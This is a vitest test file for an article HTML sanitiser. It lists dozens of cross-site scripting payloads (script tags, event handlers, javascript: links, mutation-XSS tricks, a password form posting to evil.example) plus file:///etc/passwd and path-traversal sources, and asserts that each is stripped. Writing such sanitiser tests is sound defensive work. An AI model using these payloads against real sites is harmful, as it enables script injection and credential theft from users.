import { parseDocument } from 'htmlparser2'
import { describe, expect, it } from 'vitest'
import { element, relatedHtml } from '../../src-shared/article/markup.ts'
import { pictureHtml } from '../../src-shared/article/picture-markup.ts'
import { isAllowedHref, sanitiseHtml } from './sanitise.ts'

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="&#97;lert(1)">',
  '<img/src=`x`/onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext></p><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="app://meja/index.html">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/wp-admin/">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="https://x.example" onclick="alert(1)" target="_blank" ping="https://evil.example">x</a>',
  '<a href="https://x.example" style="background:url(https://evil.example)">x</a>',
  '<p style="position:fixed;background:url(javascript:alert(1))">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<p id="root" name="cookie">x</p>',
  '<div onclick="alert(1)">x</div>',
  '<body onload=alert(1)>x',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=x></applet>',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><script>alert(1)</script></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><img src=x onerror=alert(1)></style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<video src="https://evil.example/x.mp4" onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<keygen autofocus onfocus=alert(1)>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p data-evil="x" data-speaker="&quot;><img src=x onerror=alert(1)>">x</p>',
  '<span class="dateline evil" data-dateline data-place="<script>alert(1)</script>">x</span>',
  '<aside class="related" data-related="inline"><ul><li><a href="javascript:alert(1)">x</a></li></ul></aside>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<p><a href="https://x.example"><a href="javascript:alert(1)">x</a></a></p>',
  '"><img src=x onerror=alert(1)>',
  '<x onclick=alert(1)>x</x>',
  '<p/onclick=alert(1)>x</p>',
  '<p\u0000onclick=alert(1)>x</p>',
]

const tags = new Set(
  'p h2 h3 h4 ul ol li blockquote footer cite aside figure figcaption img a strong em u s code br span'.split(' '),
)
const attributes =
  /^(?:class|href|data-(?:dateline|place|outlet|separator|order|outlet-wrap|raw|quotation|speaker|role|verb|said-on|channel|related|article-id|picture|address|credit)|alt)$/
const classes = new Set(['dateline', 'quotation', 'related', 'related-title', 'picture', 'credit'])

type Nodes = ReturnType<typeof parseDocument>['children']

/** Everything in `html` that the neutral vocabulary does not have. */
const foreign = (nodes: Nodes): string[] =>
  nodes.flatMap((node) => {
    if (!('name' in node) || !('attribs' in node)) return node.type === 'text' ? [] : [node.type]
    const wrong = Object.entries(node.attribs).flatMap(([name, value]) => {
      if (!attributes.test(name)) return [`${node.name} ${name}`]
      if (name === 'data-address' && !/^https?:\/\//i.test(value)) return [`data-address ${value}`]
      if (name === 'href' && !/^(?:https?:\/\/|mailto:)/i.test(value)) return [`href ${value}`]
      return name === 'class' ? value.split(' ').filter((one) => !classes.has(one)) : []
    })
    return [...(tags.has(node.name) ? [] : [node.name]), ...wrong, ...foreign(node.children)]
  })

describe('sanitiseHtml', () => {
  it('has at least sixty hostile payloads', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(60)
  })

  it.each(hostile)('leaves only the neutral vocabulary of %s', (payload) => {
    for (const html of [payload, `<p>Semarang</p>${payload}<p>akhir</p>`, `<p>a ${payload} b</p>`]) {
      const clean = sanitiseHtml(html)
      expect(foreign(parseDocument(clean).children)).toEqual([])
      expect(sanitiseHtml(clean)).toBe(clean)
    }
  })

  it('keeps the typed blocks as they were written', () => {
    const html = [
      element(
        'p',
        {},
        element('span', { class: 'dateline', 'data-dateline': '', 'data-place': 'Semarang' }, 'Semarang – '),
      ),
      element('blockquote', { class: 'quotation', 'data-quotation': '', 'data-speaker': 'Ma’ruf "A" & B' }, '<p>x</p>'),
      relatedHtml('inline', [{ articleId: 'a-1', title: 'Judul <b>', url: 'https://x.example/?a=1&b=2' }], 'id'),
      '<h2>h</h2><ul><li>x<br />y</li></ul><p><strong>a</strong><em>b</em><u>c</u><s>d</s><code>e</code></p>',
    ].join('')
    expect(sanitiseHtml(html)).toBe(html)
  })

  it('turns foreign names of the same thing into ours and keeps the words of what it drops', () => {
    expect(sanitiseHtml('<h1>a</h1><h6>b</h6><div><b>c</b> <i>d</i></div><font color=red>e</font>')).toBe(
      '<h2>a</h2><h4>b</h4><strong>c</strong> <em>d</em>e',
    )
  })

  const held = 'ab'.repeat(32)
  it('keeps a picture as what it is, without an address that anything could fetch', () => {
    const picture = { mediaId: held, address: '', alt: 'Warga "antre"', caption: 'Antre <air>', credit: 'Foto: Dedi' }
    const ours = pictureHtml(picture)
    expect(sanitiseHtml(ours).replace(/ \/>/g, '>').replaceAll('=""', '')).toBe(ours)
    const elsewhere = pictureHtml({ ...picture, mediaId: null, address: 'https://x.example/a.jpg?b=1&c=2' })
    expect(sanitiseHtml(elsewhere).replace(/ \/>/g, '>').replaceAll('=""', '')).toBe(elsewhere)
    expect(sanitiseHtml('<img src="https://x.example/a.jpg" srcset="https://x.example/b.jpg 2x" alt="a">')).toBe(
      '<img data-address="https://x.example/a.jpg" alt="a" />',
    )
  })

  it.each([
    '<img src="data:image/png;base64,AAAA" alt="x">',
    '<img src="javascript:alert(1)" alt="x">',
    '<img src="//x.example/a.jpg" alt="x">',
    '<img src="/a.jpg" alt="x">',
    '<img src="app://meja/media/x" alt="x">',
    '<img src="file:///etc/passwd" alt="x">',
    '<img data-picture="../../etc/passwd" alt="x">',
    '<img data-picture="zz" data-address="javascript:alert(1)" alt="x">',
    '<img src="https://x.example/pixel.gif" width="1" height="1" alt="x">',
    '<img class="emoji" src="https://s.w.org/1.png" alt="x">',
    `<img src="https://x.example/${'a'.repeat(2000)}" alt="x">`,
  ])('drops %s, which is no picture of a story', (html) => {
    expect(sanitiseHtml(`<p>a</p>${html}`)).toBe('<p>a</p>')
  })

  // A parse in quadratic time would outlast the test by far.
  it('keeps the words of a parser bomb', () => {
    expect(sanitiseHtml(`${'<span>'.repeat(1_000_000)}teks & isi`)).toBe('<p>teks &amp; isi</p>')
  })
})

describe('isAllowedHref', () => {
  it('takes absolute web and mail addresses only', () => {
    expect(['https://a.id', 'http://a.id/x', 'mailto:redaksi@a.id'].every(isAllowedHref)).toBe(true)
    expect(['ftp://a.id', 'javascript:1', '/x', 'x', '', '//a.id', 'data:,x'].some(isAllowedHref)).toBe(false)
  })
})
